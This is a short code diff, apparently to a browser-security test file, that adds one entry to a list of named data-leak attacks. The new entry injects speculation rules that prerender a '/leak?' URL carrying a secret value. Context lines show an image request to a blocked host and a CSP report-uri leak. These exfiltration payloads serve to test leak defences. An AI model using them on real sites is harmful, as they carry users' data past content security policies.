@@ -100,6 +100,12 @@ _FIRST = (
         "document.head.append(s); })",
     ),
     Attack(
+        "page that is drawn beforehand",
+        "typed(() => { const s = document.createElement('script'); s.type = 'speculationrules';"
+        "s.textContent = JSON.stringify({prerender: [{source: 'list', urls: ['/leak?' + value()], eagerness: 'immediate'}]});"
+        "document.head.append(s); })",
+    ),
+    Attack(
         "report of a broken rule",
         "typed(() => { new Image().src = 'http://blocked.localhost/' + value(); })",
         headers=(("Content-Security-Policy", "img-src 'self'; report-uri /leak"),),
